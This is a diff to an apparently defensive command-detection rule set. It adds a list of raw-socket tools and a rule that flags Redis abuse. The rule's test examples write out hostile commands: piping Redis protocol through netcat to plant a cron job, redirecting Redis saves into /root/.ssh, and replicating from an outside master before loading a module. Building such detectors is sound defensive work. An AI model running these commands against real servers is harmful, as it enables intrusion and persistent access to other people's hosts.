@@ -7,6 +7,8 @@ import { powershellCradle } from './command_and_control.js';
 /** System directories a planted binary or config takes effect from. */
 const SYSTEM_TARGET = /^(\/usr\/(local\/)?s?bin|\/s?bin|\/etc|\/root|\/lib\/systemd|\/opt\/[^/]+\/bin)(\/|$)/;
 
+/** Raw-socket tools that carry whatever protocol text they are fed. */
+const NETCAT_LIKE = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'redis-cli']);
 /** The part of a command the checks need; parsed SimpleCommands and split remote scripts both fit. */
 interface Cmd {
   name: string;
@@ -567,6 +569,27 @@ export const RULES: readonly Rule[] = [
       return /\/(\.ssh|cron|spool|www|html)|authorized_keys|^\/root|^\/etc/.test(value) ? c.argv.join(' ') : undefined;
     },
     examples: { fire: ['redis-cli -h 10.0.0.7 config set dir /root/.ssh', 'redis-cli -h cache.internal CONFIG SET dir /var/spool/cron/crontabs', 'redis-cli config set dbfilename authorized_keys'], quiet: ['redis-cli config get maxmemory', 'redis-cli config set maxmemory-policy allkeys-lru', 'redis-cli -h localhost ping'] },
+  },
+  {
+    id: 'PX-LATERAL-021', name: 'exploits-redis', score: 85, tactic: 'lateral_movement', technique: 'T1210', strong: true,
+    message: 'Drives a Redis server to write a cron job or SSH key, or to load a module from a rogue master', why: 'An exposed Redis can be told to save its data as /etc/cron.d/x or ~/.ssh/authorized_keys, or to replicate from an attacker and load a module that runs commands: the standard worm entry into Linux hosts.',
+    alternative: 'Configure Redis through its config file and restart it; never point dir/dbfilename at system paths.',
+    check: (i) => {
+      const out: string[] = [];
+      let all = '';
+      for (const c of i.view?.commands ?? []) {
+        // redis-cli's arguments, or the protocol text a netcat or redis-cli is fed
+        const text = (c.name === 'redis-cli' ? c.argv.slice(1).join(' ') : NETCAT_LIKE.has(c.name) ? (c.pipeFrom ? c.pipeFrom.argv.slice(1).join(' ') : c.stdin ?? '') : '').slice(0, 8192);
+        if (!text) continue;
+        if (all.length < 16384) all += text + '\n';
+        const dir = /config\s+set\s+(?:dir|dbfilename)\b/i.test(text) && /\/(?:etc\/cron|var\/spool\/cron|root\/\.ssh|\.ssh)|authorized_keys|crontabs?\b/i.test(text);
+        if (dir || /\bsystem\.exec\b/i.test(text)) out.push(c.argv.join(' ').slice(0, 200));
+      }
+      // replication from a rogue master, then its module loaded, may take two commands
+      if (/\b(?:slaveof|replicaof)\s+\S+/i.test(all) && /module\s+load/i.test(all)) out.push(all.trim().slice(0, 200));
+      return out;
+    },
+    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so'], quiet: ['redis-cli -h localhost ping', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
   },
 ];
 
